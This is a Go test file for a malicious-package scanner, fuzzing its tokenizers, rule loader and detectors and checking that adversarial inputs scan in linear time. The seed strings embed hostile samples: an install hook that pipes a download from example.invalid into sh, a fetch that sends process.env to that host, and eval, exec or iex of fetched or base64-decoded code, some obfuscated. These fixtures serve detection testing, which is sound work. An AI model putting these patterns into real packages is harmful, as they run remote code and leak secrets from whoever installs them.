package codescan

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pkgward/pkgward/internal/artifact"
)

// seedSources adds the code files of the fixtures in a language as seeds.
func seedSources(f *testing.F, l lang) {
	for _, kind := range []string{"malicious", "benign"} {
		_ = filepath.WalkDir(filepath.Join("testdata", kind), func(p string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			data, err := os.ReadFile(p)
			if err == nil && detectLang(p, data, false) == l {
				f.Add(data)
			}
			return nil
		})
	}
}

func fuzzTokenizer(f *testing.F, l lang, seeds ...string) {
	for _, s := range seeds {
		f.Add([]byte(s))
	}
	seedSources(f, l)
	rs := DefaultRules()
	f.Fuzz(func(t *testing.T, data []byte) {
		spans := tokenize(l, data, nil)
		checkSpans(t, spans, len(data))
		for p := 0; p <= len(data); p += 1 + len(data)/16 {
			_ = contextAt(spans, p)
		}
		// The whole pipeline on the same bytes must not panic either.
		name := map[lang]string{langJS: "index.js", langPython: "setup.py"}[l]
		for _, f := range Scan(treeOf(map[string]string{name: string(data)}), rs) {
			if f.Rule == "" || f.Evidence["location"] == nil {
				t.Fatalf("malformed finding %+v", f)
			}
		}
	})
}

func FuzzTokenizeJS(f *testing.F) {
	fuzzTokenizer(f, langJS,
		"`a${`b${c}`}d` / 2 /re/ 'x\\'y' \"z\" // c\n/* c */",
		"x = a / b / c; return /[/]/g.test(s)",
		"`${", "}`", "/*", "'\\", "`${{}}`",
	)
}

func FuzzTokenizePython(f *testing.F) {
	fuzzTokenizer(f, langPython,
		"def f():\n    \"\"\"doc\"\"\"\n    return r'\\'' + f\"{x}\"  # c\n",
		"'''", "\"\"\"\\", "x = (\n'''a'''\n)", "rb'x'", "\\\n\"\"\"",
	)
}

func FuzzLoadRules(f *testing.F) {
	f.Add(defaultRulesYAML)
	f.Add([]byte("version: 1\nrules:\n  - id: a\n    title: t\n    patterns:\n      - literals: [abc]\n        regex: 'a(b)c'\n        also: [[xyz]]\n"))
	f.Add([]byte("version: 1\nrules:\n  - id: b\n    title: t\n    requires: [network-send]\n    patterns:\n      - detector: entropy\n        min-length: 10\n"))
	f.Add([]byte("version: 1\ninstall-time: ['/**']\nrules:\n  - id: cloud-metadata\n    disabled: true\n"))
	tr := treeOf(map[string]string{
		"package.json": `{"scripts":{"postinstall":"node i.js && curl -s https://example.invalid/x | sh"}}`,
		"i.js":         "fetch('https://example.invalid/'+JSON.stringify(process.env)); abc xyz",
		"setup.py":     "import os\nos.system('id')\n",
	})
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, err := LoadRules("fuzz.yaml", data)
		if err != nil {
			return
		}
		_ = rs.Rules()
		_ = Scan(tr, rs)
		d := DefaultRules()
		d.Merge(rs)
		_ = Scan(tr, d)
	})
}

// TestAdversarialInputsStayFast: inputs built to defeat the tokenizers or
// to repeat a trigger literal thousands of times cost linear time (the
// bound is loose: it catches quadratic behaviour, not slow machines).
func TestAdversarialInputsStayFast(t *testing.T) {
	if testing.Short() {
		t.Skip("scans a few MB")
	}
	const n = 200_000
	inputs := map[string]string{
		"heredocs":     strings.Repeat("x = <<A ", n/8),
		"heredoc-line": strings.Repeat("x = <<A\n", n/8),
		"slashes":      strings.Repeat("a /", n/3),
		"templates":    strings.Repeat("`${", n/3),
		"quotes":       strings.Repeat("'\"`", n/3),
		"percent":      strings.Repeat("%q(", n/3),
		"here-strings": strings.Repeat("@'  x", n/5),
		"backslashes":  strings.Repeat("\\", n),
		"eval":         strings.Repeat("eval(atob(", n/10),
		"curl":         strings.Repeat("curl ", n/5),
		"base64":       strings.Repeat("QUJD", n/4),
		"escapes":      strings.Repeat("\\x41", n/4),
		"esc strings":  strings.Repeat("'\\x61\\x62\\x63\\x64',", n/20),
		"char codes":   strings.Repeat("String.fromCharCode(101,", n/24),
		"code lists":   strings.Repeat("chr([101,120,101,99,83,121],", n/28),
		"percents":     strings.Repeat("unescape('%41%42%43%44%45'),", n/28),
		"joins":        strings.Repeat("'ab'+'cd' ", n/10),
		"_0x":          strings.Repeat("_0x1234 ", n/8),
		"process.env":  strings.Repeat("JSON.stringify(process.env ", n/27),
		"ip urls":      strings.Repeat("http://1.2.3.4 ", n/15),
	}
	rs := DefaultRules()
	for name, src := range inputs {
		for _, fn := range []string{"a.js", "a.py", "a.sh", "a.ps1", "a.rb", "a.bat", "a.targets", "a.rs"} {
			start := time.Now()
			Scan(treeOf(map[string]string{fn: src}), rs)
			if d := time.Since(start); d > 2*time.Second {
				t.Errorf("%s as %s: %v", name, fn, d)
			}
		}
	}
}

// FuzzScanDetectors runs every rule, the escaped-ASCII and mixed-script
// detectors included, over hostile bytes read as several languages: no
// panic, and every finding points into the file.
func FuzzScanDetectors(f *testing.F) {
	for _, s := range []string{
		"const pаssword = 1; x = \"\\x72\\x65\\x71\\x75\"",
		"\"\\x41\\x42\\x43\\x44\" '\\u0041\\u0042\\u0043\\u0044' \"\\101\\102\\103\\104\"",
		"var \xd0\xb0b\xff\xfe = 1 // \xd0",
		"// Code generated x DO NOT EDIT.\npackage p\nfunc init() { exec.Command(string(b)) }",
		"Gem.post_install { Net::HTTP.get(u) }\nx = requests.get(u)\n",
		"x = base64.b64decode(s); y = x.decode()\nexec(y)\nr = requests.get(u)\nos.system(r.text)\n",
		"require('./lib/z');\nfetch(u).then(r => r.text()).then(t => eval(t));\nconst s = atob(k); new Function(s)();\n",
		"b, _ := base64.StdEncoding.DecodeString(s)\nexec.Command(\"sh\", \"-c\", string(b))\n$s = [Convert]::FromBase64String($x)\n$s | iex\n",
		"var _0x1a2b=[_0x3c4d,_0x5e6f,_0x7a8b,_0x9c0d,_0x1e2f];",
		"x = '\\x63\\x75\\x72\\x6c\\x20\\x7c\\x20\\x73\\x68'\nexec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116]))\nString.fromCharCode(99,117,114,108,32,124)\n",
		"const cp = require('chi' + 'ld_pro' + 'cess');\nos.system('cu' 'rl x | sh')\nx = 'a' +\n'b'\n",
	} {
		f.Add([]byte(s))
	}
	rs := DefaultRules()
	f.Fuzz(func(t *testing.T, data []byte) {
		tr := &artifact.Tree{Format: "dir"}
		pj := []byte(`{"name":"f","main":"index.js"}`)
		tr.Files = append(tr.Files, artifact.File{Path: "package.json", Size: int64(len(pj)), Data: pj})
		for _, name := range []string{"a/__init__.py", "index.js", "lib/z.js", "x/x.go", "lib/y.rb", "t.ps1"} {
			tr.Files = append(tr.Files, artifact.File{Path: name, Size: int64(len(data)), Data: data})
		}
		for _, fd := range Scan(tr, rs) {
			if l, ok := fd.Evidence["line"].(int); ok && (l < 1 || l > 1+bytes.Count(data, []byte("\n"))) {
				t.Fatalf("%s: line %d outside the file", fd.Rule, l)
			}
		}
	})
}
